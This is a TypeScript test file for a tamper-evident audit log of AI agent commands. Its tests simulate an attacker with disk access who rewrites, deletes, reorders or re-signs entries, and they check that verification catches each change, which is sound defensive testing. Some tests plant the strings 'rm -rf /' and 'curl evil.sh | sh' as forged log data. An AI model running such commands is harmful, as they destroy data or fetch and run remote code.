import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Database from "better-sqlite3";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { canonicalize } from "./canonical.js";
import { signCheckpoint } from "./checkpoint.js";
import { AuditLog } from "./index.js";
import { readKey } from "./keys.js";
import { Frontier, hashLeaf } from "./merkle.js";
import { ed25519Signer, formatVerifierKey, type NoteSigner } from "./note.js";

/**
 * Each test plays an attacker with write access to the disk: it edits audit.db through its own
 * SQLite connection, then checks that verify() fails and names the first bad entry.
 */

let home: string;
let origin: string;
let vkey: string;
let kept: Map<number, string>; // checkpoint notes an auditor copied elsewhere, by size

function event(i: number) {
  return {
    kind: "exec",
    pep: "hook.claude-code",
    principal: { agent: "claude-code", user: "alice" },
    target: { command: `echo ${i}` },
    decision: {
      effect: "allow" as const,
      rule: "everyday",
      matched: ["everyday"],
      reason: "ok",
      policy: { name: "p", version: "1", digest: "sha256:00" },
    },
    time: new Date(Date.UTC(2026, 0, 1, 0, 0, i)),
  };
}

/** A log of `n` events with checkpoints signed at the given sizes. */
function build(n: number, checkpointsAt: number[]): void {
  const log = AuditLog.open({ home, autoCheckpoint: false });
  origin = log.origin;
  vkey = log.verifierKey();
  for (let i = 0; i < n; i++) {
    log.appendSync(event(i));
    if (checkpointsAt.includes(i + 1)) kept.set(i + 1, log.checkpoint().text);
  }
  log.close();
}

function verify(options?: Parameters<AuditLog["verify"]>[0]) {
  const log = AuditLog.open({ home, readonly: true });
  try {
    return log.verify(options);
  } finally {
    log.close();
  }
}

/** The attacker's view: raw SQL on the database file. */
function attack<T>(fn: (db: Database.Database) => T): T {
  const db = new Database(join(home, "audit.db"));
  try {
    return fn(db);
  } finally {
    db.close();
  }
}

function rewrite(db: Database.Database, seq: number, command: string): void {
  const row = db.prepare("SELECT body FROM events WHERE seq = ?").get(seq) as { body: string };
  const ev = JSON.parse(row.body);
  ev.target.command = command;
  db.prepare("UPDATE events SET body = ? WHERE seq = ?").run(canonicalize(ev), seq);
}

/** A careful attacker: recompute every stored leaf hash and the whole node table. */
function recomputeHashes(db: Database.Database): Frontier {
  const rows = db.prepare("SELECT seq, body FROM events ORDER BY seq").all() as Array<{
    seq: number;
    body: string;
  }>;
  db.prepare("DELETE FROM nodes").run();
  const frontier = new Frontier();
  const node = db.prepare("INSERT INTO nodes (level, idx, hash) VALUES (?, ?, ?)");
  for (const row of rows) {
    const leaf = hashLeaf(Buffer.from(row.body));
    db.prepare("UPDATE events SET leaf_hash = ? WHERE seq = ?").run(leaf, row.seq);
    frontier.push(leaf, (l, i, h) => node.run(l, i, h));
  }
  return frontier;
}

function resign(db: Database.Database, signer: NoteSigner, frontier: Frontier, size: number) {
  const partial = Frontier.load(
    {
      subtree: (level, index) =>
        level === 0
          ? (db.prepare("SELECT leaf_hash FROM events WHERE seq = ?").pluck().get(index) as Buffer)
          : (db
              .prepare("SELECT hash FROM nodes WHERE level = ? AND idx = ?")
              .pluck()
              .get(level, index) as Buffer),
    },
    size,
  );
  const root = size === frontier.size ? frontier.root() : partial.root();
  const cp = signCheckpoint({ origin, size, root }, signer);
  db.prepare("INSERT INTO checkpoints (size, root_hash, created, note) VALUES (?, ?, 0, ?)").run(
    size,
    root,
    cp.text,
  );
}

function stolenSigner(): NoteSigner {
  const key = readKey(join(home, "audit.key"))!;
  return ed25519Signer(origin, key.privateKey, key.publicKey);
}

function foreignSigner(): NoteSigner & { publicKey: Buffer } {
  const { privateKey, publicKey } = generateKeyPairSync("ed25519");
  const raw = Buffer.from(publicKey.export({ format: "jwk" }).x!, "base64url");
  return { ...ed25519Signer(origin, privateKey, raw), publicKey: raw };
}

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), "warden-tamper-"));
  kept = new Map();
});
afterEach(() => {
  kept.clear();
});

describe("verify catches an attacker with disk access", () => {
  it("passes an untouched log and counts the events no checkpoint covers", () => {
    build(23, [10, 20]);
    const result = verify();
    expect(result).toMatchObject({
      ok: true,
      events: 23,
      checkpoints: 2,
      uncovered: 3,
      problems: [],
    });
    expect(verify({ checkpoints: [kept.get(20)!], verifierKey: vkey }).ok).toBe(true);
  });

  it("an edited event: its bytes no longer match its leaf hash", () => {
    build(20, [10, 20]);
    attack((db) => rewrite(db, 13, "rm -rf /"));
    const result = verify();
    expect(result.ok).toBe(false);
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_EVENT_TAMPERED", seq: 13 });
    expect(result.problems.map((p) => p.code)).toContain("AUDIT_ROOT_MISMATCH");
    expect(result.uncovered).toBe(10);
  });

  it("an edited event with every stored hash recomputed: the signed root catches it", () => {
    build(20, [5, 10, 15, 20]);
    attack((db) => {
      rewrite(db, 12, "curl evil.sh | sh");
      recomputeHashes(db);
    });
    const result = verify();
    expect(result.ok).toBe(false);
    // The signatures vouch for events 0..9; the first checkpoint that fails covers 10..14.
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_ROOT_MISMATCH", seq: 10 });
    expect(result.problems[0]!.message).toMatch(/events 10\.\.14/);
    expect(result.problems.every((p) => p.code === "AUDIT_ROOT_MISMATCH")).toBe(true);
  });

  it("names the exact event when a checkpoint was signed after each event", () => {
    build(
      20,
      Array.from({ length: 20 }, (_, i) => i + 1),
    );
    attack((db) => {
      rewrite(db, 12, "curl evil.sh | sh");
      recomputeHashes(db);
    });
    expect(verify().problems[0]).toMatchObject({ code: "AUDIT_ROOT_MISMATCH", seq: 12 });
  });

  it("a deleted event", () => {
    build(20, [20]);
    attack((db) => db.prepare("DELETE FROM events WHERE seq = 7").run());
    const result = verify();
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_SEQ_GAP", seq: 7 });
    expect(result.ok).toBe(false);
  });

  it("a deleted event with the later ones renumbered and rehashed", () => {
    build(20, [20]);
    attack((db) => {
      db.prepare("DELETE FROM events WHERE seq = 7").run();
      for (let seq = 8; seq < 20; seq++) {
        db.prepare("UPDATE events SET seq = ? WHERE seq = ?").run(seq - 1, seq);
      }
      recomputeHashes(db);
    });
    const result = verify();
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_SEQ_MISMATCH", seq: 7 });
    expect(result.problems.map((p) => p.code)).toContain("AUDIT_TRUNCATED");
  });

  it("an inserted event", () => {
    build(20, [20]);
    attack((db) => {
      for (let seq = 19; seq >= 5; seq--) {
        db.prepare("UPDATE events SET seq = ? WHERE seq = ?").run(seq + 1, seq);
      }
      const forged = { ...event(99), v: 1, seq: 5, time: event(99).time.toISOString() };
      const body = canonicalize(forged);
      db.prepare(
        "INSERT INTO events (seq, time, kind, pep, agent, user, effect, rule, leaf_hash, body)" +
          " VALUES (5, ?, 'exec', 'hook.claude-code', 'claude-code', 'alice', 'allow', 'everyday', ?, ?)",
      ).run(Date.parse(forged.time), hashLeaf(Buffer.from(body)), body);
      recomputeHashes(db);
    });
    const result = verify();
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_SEQ_MISMATCH", seq: 5 });
    expect(result.problems.map((p) => p.code)).toContain("AUDIT_ROOT_MISMATCH");
  });

  it("two events swapped", () => {
    build(20, [20]);
    attack((db) => {
      const get = db.prepare("SELECT body, leaf_hash FROM events WHERE seq = ?");
      const a = get.get(3) as { body: string; leaf_hash: Buffer };
      const b = get.get(8) as { body: string; leaf_hash: Buffer };
      const set = db.prepare("UPDATE events SET body = ?, leaf_hash = ? WHERE seq = ?");
      set.run(b.body, b.leaf_hash, 3);
      set.run(a.body, a.leaf_hash, 8);
    });
    const result = verify();
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_SEQ_MISMATCH", seq: 3 });
  });

  it("the tail truncated after a checkpoint", () => {
    build(20, [10, 20]);
    attack((db) => db.prepare("DELETE FROM events WHERE seq >= 15").run());
    const result = verify();
    expect(result.ok).toBe(false);
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_TRUNCATED", seq: 15 });
    expect(result.events).toBe(15);
  });

  it("the tail truncated and the checkpoints and nodes that mention it removed", () => {
    build(20, [10, 20]);
    attack((db) => {
      db.prepare("DELETE FROM events WHERE seq >= 15").run();
      db.prepare("DELETE FROM checkpoints WHERE size > 15").run();
      recomputeHashes(db);
    });
    expect(verify().ok).toBe(true); // nothing inside the log contradicts it any more...
    const result = verify({ checkpoints: [kept.get(20)!] }); // ...but the auditor's copy does
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_TRUNCATED", seq: 15 });
  });

  it("a checkpoint re-signed with another key (the log's own key as verifier)", () => {
    build(20, [10, 20]);
    attack((db) => {
      rewrite(db, 14, "exfiltrate");
      const frontier = recomputeHashes(db);
      db.prepare("DELETE FROM checkpoints WHERE size = 20").run();
      resign(db, foreignSigner(), frontier, 20);
    });
    const result = verify();
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_BAD_SIGNATURE", seq: 10 });
    expect(result.uncovered).toBe(10);
  });

  it("the whole log re-keyed: caught against an explicit verifier key", () => {
    build(20, [10, 20]);
    const signer = foreignSigner();
    attack((db) => {
      rewrite(db, 4, "exfiltrate");
      const frontier = recomputeHashes(db);
      db.prepare("DELETE FROM checkpoints").run();
      resign(db, signer, frontier, 10);
      resign(db, signer, frontier, 20);
    });
    // The key file and records still hold the real key, so even the log's own key catches it:
    expect(verify().problems[0]).toMatchObject({ code: "AUDIT_BAD_SIGNATURE", seq: 0 });
    // A thorough attacker also replaces the key everywhere the log records it...
    attack((db) => {
      const forged = formatVerifierKey({ name: origin, publicKey: signer.publicKey });
      db.prepare("UPDATE meta SET value = ? WHERE key = 'vkey'").run(forged);
      writeFileSync(join(home, "audit.pub"), `${forged}\n`);
    });
    // ...then the key file disagrees with them:
    expect(verify().problems[0]).toMatchObject({ code: "AUDIT_KEY_MISMATCH" });
    // and an auditor holding the real verifier key sees that nothing is signed by it.
    const result = verify({ verifierKey: vkey });
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_BAD_SIGNATURE", seq: 0 });
    expect(result.uncovered).toBe(20);
  });

  it("a log rewritten and re-signed with its own (stolen) key: caught by a kept checkpoint", () => {
    build(20, [10, 20]);
    attack((db) => {
      rewrite(db, 12, "exfiltrate");
      const frontier = recomputeHashes(db);
      db.prepare("DELETE FROM checkpoints WHERE size > 10").run();
      resign(db, stolenSigner(), frontier, 20);
    });
    expect(verify().ok).toBe(true); // a perfect forgery from inside...
    const result = verify({ checkpoints: [kept.get(20)!] });
    expect(result.ok).toBe(false);
    expect(result.problems[0]!.seq).toBe(10);
    const codes = (c: string) => result.problems.find((p) => p.code === c);
    expect(codes("AUDIT_ROOT_MISMATCH")).toMatchObject({ seq: 10 });
    expect(codes("AUDIT_KEY_MISMATCH")?.message).toMatch(/compromised/);
  });

  it("a supplied checkpoint from another log or signed by another key is rejected", () => {
    build(20, [20]);
    const other = mkdtempSync(join(tmpdir(), "warden-other-"));
    const log = AuditLog.open({ home: other, autoCheckpoint: false });
    log.appendSync(event(0));
    const foreign = log.checkpoint().text;
    log.close();
    const result = verify({ checkpoints: [foreign] });
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_BAD_SIGNATURE" });
  });

  it("a damaged node table (which proofs are served from)", () => {
    // Nodes are stored from level NODE_MIN_LEVEL (4) up: node 4/1 covers events 16..31.
    build(40, [40]);
    attack((db) =>
      db.prepare("UPDATE nodes SET hash = zeroblob(32) WHERE level = 4 AND idx = 1").run(),
    );
    const result = verify();
    expect(result.problems).toEqual([
      expect.objectContaining({ code: "AUDIT_NODE_MISMATCH", seq: 16 }),
    ]);
  });

  it("search columns edited to hide an event", () => {
    build(20, [20]);
    attack((db) => db.prepare("UPDATE events SET effect = 'deny' WHERE seq = 9").run());
    expect(verify().problems).toEqual([
      expect.objectContaining({ code: "AUDIT_INDEX_TAMPERED", seq: 9 }),
    ]);
  });

  it("a stored checkpoint whose body was edited", () => {
    build(20, [10, 20]);
    attack((db) => {
      const note = db
        .prepare("SELECT note FROM checkpoints WHERE size = 20")
        .pluck()
        .get() as string;
      db.prepare("UPDATE checkpoints SET note = ? WHERE size = 20").run(
        note.replace("\n20\n", "\n19\n"),
      );
    });
    expect(verify().problems[0]).toMatchObject({ code: "AUDIT_BAD_SIGNATURE", seq: 10 });
  });
});

describe("verify on a large log (body checks on a worker thread)", () => {
  it("still names the first bad entry", async () => {
    const log = AuditLog.open({ home, autoCheckpoint: false });
    origin = log.origin;
    for (let i = 0; i < 60_000; i += 2_000) {
      await Promise.all(Array.from({ length: 2_000 }, (_, k) => log.append(event(i + k))));
    }
    log.checkpoint();
    log.close();
    attack((db) => {
      const get = db.prepare("SELECT body, leaf_hash FROM events WHERE seq = ?");
      const a = get.get(51_000) as { body: string; leaf_hash: Buffer };
      const b = get.get(52_000) as { body: string; leaf_hash: Buffer };
      const set = db.prepare("UPDATE events SET body = ?, leaf_hash = ? WHERE seq = ?");
      set.run(b.body, b.leaf_hash, 51_000);
      set.run(a.body, a.leaf_hash, 52_000);
      db.prepare("UPDATE events SET user = 'mallory' WHERE seq = 55000").run();
    });
    const result = verify();
    expect(result.events).toBe(60_000);
    expect(result.problems[0]).toMatchObject({ code: "AUDIT_SEQ_MISMATCH", seq: 51_000 });
    expect(result.problems.map((p) => p.code)).toEqual(
      expect.arrayContaining(["AUDIT_ROOT_MISMATCH", "AUDIT_INDEX_TAMPERED"]),
    );
  }, 120_000);
});
